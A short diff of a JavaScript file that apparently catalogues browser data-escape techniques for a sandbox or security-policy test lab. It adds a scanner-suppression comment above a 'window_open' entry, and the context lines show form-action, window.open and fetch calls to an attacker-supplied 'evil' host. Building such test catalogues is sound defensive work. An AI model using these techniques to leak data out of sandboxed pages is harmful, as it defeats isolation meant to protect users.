@@ -38,6 +38,7 @@ Object.assign(window.attacks, {
       button.setAttribute("formaction", `${evil}/x`);
       button.click();
     }),
+  // cordon-ignore-next-line scan-opener-given: a way out that the lab tries
   window_open: (evil) => void open(`${evil}/x`),
   window_open_blank_fetch: (evil) => open("")?.fetch(evil, { mode: "no-cors" }),
   window_open_sameorigin_fetch: (evil) => {
